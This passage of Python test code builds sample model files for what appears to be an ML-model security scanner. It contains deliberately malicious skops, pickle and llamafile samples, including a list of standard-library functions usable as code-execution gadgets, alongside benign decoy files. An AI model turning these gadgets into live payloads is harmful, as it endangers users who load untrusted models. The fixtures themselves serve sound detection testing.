    w.put("skops", "malicious", "m.skops", zipped({"schema.json": json.dumps({"__class__": "MethodNode", "__module__": "builtins", "__loader__": "MethodNode", "content": {"func": "eval", "obj": {"__class__": "eval", "__module__": "builtins", "__loader__": "TypeNode"}}}).encode()}))
    for module, name in (("timeit", "timeit"), ("idlelib.run", "exec"), ("torch.utils.collect_env", "run"), ("trace", "Trace.run"), ("uuid", "_get_command_stdout"), ("logging.config", "listen"), ("zipapp", "create_archive"), ("ensurepip", "_run_pip"), ("pydoc", "pipepager"), ("torch.jit.unsupported_tensor_ops", "execWrapper")):
        text = lambda one: b"\x8c" + bytes([len(one)]) + one.encode()
        w.put("pickle", "malicious", "m.pkl", b"\x80\4" + text(module) + text(name) + b"\x93" + text("pass") + b"\x85R.")
    w.put("ggml", "malicious", "m.llamafile", PE + zipped({"m.gguf": gguf({"tokenizer.chat_template": "{{ ''.__class__ }}"})}))


def calm(w):
    w.put("other", "ordinary", "m.msgpack", b"\x81\xa6params\x81\xa6kernel\xc7\x0b\1\x93\x91\1\xa4int8\xc4\1a")
    w.put("other", "ordinary", "m.parquet", b"PAR1" + bytes(30) + struct.pack("<I", 10) + b"PAR1")
    w.put("other", "ordinary", "events.out.tfevents.1.host", struct.pack("<Q", 9) + bytes(4) + b"\x09" + bytes(8) + bytes(4))
    w.put("other", "ordinary", "vocab.bpe", "#version: 0.2\n\u0120 t\n\u0120 a\n")
    w.put("other", "ordinary", "spiece.model", pb((1, pb((1, "<unk>"), (3, 2))), (1, pb((1, "os.system")))))
    w.put("other", "ordinary", "a.jpg", b"\xff\xd8\xff\xe0\0\x10JFIF\0" + bytes(9) + b"\xff\xda\0\2" + bytes(8) + b"\xff\xd9")
    w.put("other", "ordinary", "sample.wav", b"RIFF" + struct.pack("<I", 44) + b"WAVEfmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 8000, 1, 8) + b"data" + struct.pack("<I", 8) + bytes(8))
    w.put("other", "ordinary", "index.faiss", b"IxF2" + struct.pack("<i", 4) + bytes(40))
    w.put("other", "ordinary", "data.jsonl", '{"text": "import os; os.system(1)"}\n{"text": "{{ x.__class__ }}"}\n')
    w.put("other", "ordinary", "m.gguf", gguf({"general.architecture": "llama", "general.alignment": 32, "tokenizer.ggml.tokens": ["<s>", "import os", "{{"]}, tensors=[("t", [8], 0, 0)], pad=bytes(32)))
